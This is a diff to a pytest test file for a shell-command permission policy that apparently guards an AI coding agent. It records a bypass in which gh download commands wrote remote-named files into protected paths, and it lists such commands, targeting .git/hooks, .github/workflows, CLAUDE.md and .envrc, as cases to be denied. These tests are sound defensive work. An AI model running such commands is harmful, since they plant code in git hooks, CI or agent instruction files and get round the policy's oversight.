@@ -24,6 +24,11 @@ Each class was shown by effect in a scratch directory (docs/policy.md, "Thirteen
 * (e) class 4: GNU env puts the words of `-S STRING` in place and parses on: `env -S'cat' .env`
   runs `cat .env`; the policy read `.env` as another program (asked) and `env -S tee
   CLAUDE.md` as `tee` plus a program named CLAUDE.md.
+* (f) class 11/4: gh's downloads write files the remote names (by gh's manual: a run's
+  artifacts under `.` or `-D DIR`, a release's assets, `-O FILE`, `gist clone ID DIR`); the
+  spec took every option as a literal, so `gh run download 5 -D .github` and `gh release
+  download v1 -O CLAUDE.md` were allowed. The paths are writes now, downloads/checkouts/gist
+  uploads ask, and a catch-all `-*` no longer swallows `-D.github` (an attached value).
 """
 
 from __future__ import annotations
@@ -443,3 +448,61 @@ def test_env_split_by_effect(tmp_path: Path) -> None:
     (tmp_path / ".env").write_text("MARKER=rt13\n")
     out = subprocess.run([env, "-Scat", ".env"], cwd=tmp_path, capture_output=True, text=True)
     assert out.stdout == "MARKER=rt13\n"
+
+
+# ---- (f) gh downloads write files the remote names -----------------------------------------------
+
+GH_PROTECTED_TARGETS = [
+    "gh run download 5 -D .github",
+    "gh run download 5 -D .github/workflows",
+    "gh run download 5 --dir=.github",
+    "gh run download 5 --dir .git/hooks",
+    "gh run download 5 -D.github",
+    "gh run download -n dist -D .github/workflows",
+    "gh run download 5 -D /tmp/rt13-out",
+    "gh run download 5 -D../outside",
+    "gh release download v1 -O CLAUDE.md",
+    "gh release download v1 -OCLAUDE.md",
+    "gh release download v1 --output=.git/hooks/pre-commit",
+    "gh release download v1 --output AGENTS.md",
+    "gh release download v1 -D .github/workflows",
+    "gh release download v1 -p '*.yml' -D .github/workflows",
+    "gh release download v1 --archive=zip -O .envrc",
+    "gh release download -R evil/x v1 -D .git/hooks",
+    "gh gist clone abc .github/workflows",
+    "gh gist clone abc .git/hooks",
+    "gh gist clone abc /tmp/rt13-gist",
+    "gh attestation download x.tgz -R a/b -D .github",
+]
+
+
+@pytest.mark.parametrize("command", GH_PROTECTED_TARGETS)
+def test_gh_download_into_protected_paths(policy: Policy, env_ws: Path, command: str) -> None:
+    assert _decide(policy, env_ws, command)[0] is Verdict.DENY, command
+
+
+GH_REMOTE_NAMED = [
+    "gh run download 5", "gh run download", "gh run download 5 -n dist", "gh run download -D out",
+    "gh release download v1", "gh release download v1 -p '*.tgz' -D dist", "gh release download",
+    "gh pr checkout 12", "gh pr checkout 12 --force", "gh gist clone abc", "gh gist clone abc out",
+    "gh gist create notes.md", "gh gist create --public notes.md", "gh gist create - < notes.md",
+    "gh gist edit abc -a notes.md", "gh gist new notes.md", "gh release upload v1 notes.md",
+    "gh attestation download x.tgz -R a/b", "gh -R evil/x release download v1",
+    "gh release download v1 --clobber",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", GH_REMOTE_NAMED)
+def test_gh_downloads_and_uploads_ask(policy: Policy, env_ws: Path, command: str) -> None:
+    assert _decide(policy, env_ws, command)[0] is not Verdict.ALLOW, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["gh pr list", "gh pr view 12", "gh run view 5", "gh run view 5 --log", "gh run list -L5",
+     "gh release list", "gh release view v1", "gh gist list", "gh gist view abc",
+     "gh issue list -s open", "gh run watch 5", "gh pr status", "gh pr diff 12",
+     "gh attestation verify x.tgz -R a/b"],
+)  # fmt: skip
+def test_gh_controls(policy: Policy, env_ws: Path, command: str) -> None:
+    assert _decide(policy, env_ws, command)[0] is Verdict.ALLOW, command
